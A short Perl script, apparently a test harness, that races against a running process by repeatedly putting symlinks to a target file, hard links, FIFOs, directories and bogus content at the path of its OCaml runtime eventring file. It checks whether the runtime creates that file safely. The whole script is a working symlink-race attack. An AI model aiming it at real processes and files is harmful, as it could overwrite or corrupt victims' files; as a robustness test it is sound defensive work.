#!/usr/bin/env perl
# attack.pl DIRECTORY TARGET PID
#
# Puts one thing after another at the name of PID's ring file, and removes
# the entry of that name, until PID ends.  Makes DIRECTORY/ready when it begins;
# prints how often.

use strict;
use warnings;
use POSIX 'mkfifo';

my ($dir, $target, $pid) = @ARGV;
my $ring = "$dir/$pid.eventring";
my $tries = 0;

sub write_file {
  my ($text) = @_;
  open my $file, '>', $ring or return;
  print $file $text;
  close $file;
}

my @tricks = (
  sub { symlink $target, $ring },
  sub { symlink "$dir/not-there", $ring },
  sub { link $target, $ring },
  sub { mkfifo $ring, 0666 },
  sub { mkdir $ring },
  sub { write_file("OCaml Eventring\n" . "\0" x 8192) },
  sub { write_file('') },
  sub { rename $ring, "$dir/taken" },
);
open my $ready, '>', "$dir/ready" or die;
# The system knows of its end, for processes of any user.
while (-d "/proc/$pid" && $tries < 1_000_000) {
  $tricks[$tries++ % @tricks]->();
  select undef, undef, undef, rand() * 0.0001 if $tries % 3;
  unlink $ring or rmdir $ring;
}
print "$tries\n";
